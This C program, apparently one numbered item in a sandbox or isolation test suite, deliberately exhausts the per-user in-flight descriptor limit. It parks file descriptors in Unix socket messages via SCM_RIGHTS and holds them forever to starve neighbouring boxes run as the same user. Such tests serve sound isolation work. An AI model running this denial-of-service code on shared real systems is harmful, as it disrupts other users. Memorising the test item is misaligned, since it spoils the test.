/* Attack 60: descriptors on their way through sockets, as many as can be had, held by a daemon for
 * as long as its box lives. They count for the user, who is the same in every box. */
/* Points: 0 */
/* Neighbour */
#define _GNU_SOURCE
#include <errno.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { AT_ONCE = 250, MESSAGES = 8, PAIRS = 100 };

/* False if there is no room for more. */
static int send_many(int socket)
{
    int fds[AT_ONCE] = {0};
    _Alignas(struct cmsghdr) char space[CMSG_SPACE(sizeof fds)];
    char byte = 'x';
    struct iovec piece = {&byte, 1};
    struct msghdr header = {
        .msg_iov = &piece, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *passed = CMSG_FIRSTHDR(&header);
    passed->cmsg_level = SOL_SOCKET;
    passed->cmsg_type = SCM_RIGHTS;
    passed->cmsg_len = CMSG_LEN(sizeof fds);
    memcpy(CMSG_DATA(passed), fds, sizeof fds);
    return sendmsg(socket, &header, MSG_DONTWAIT) >= 0;
}

int main(void)
{
    int pair[2];
    for (int i = 0; i < PAIRS && socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0; i++)
        for (int k = 0; k < MESSAGES && send_many(pair[1]); k++)
            continue;
    for (;;)
        pause();
}
